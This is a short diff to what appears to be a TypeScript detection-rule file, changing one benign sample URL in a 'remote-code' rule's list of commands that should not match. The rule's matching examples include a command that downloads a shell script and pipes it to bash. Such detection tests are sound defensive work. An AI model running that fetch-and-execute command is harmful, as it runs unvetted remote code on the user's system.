@@ -102,7 +102,7 @@ export const signRules: readonly Rule[] = [
       "curl -o i.sh https://e.com/i.sh && bash i.sh",
     ],
     misses: [
-      "curl -s https://registry.npmjs.org/lodash | jq .name",
+      "curl -s https://packages.example.org/lodash | jq .name",
       "curl -o f.tgz https://example.com/f.tgz",
     ],
     sign: "remote-code",
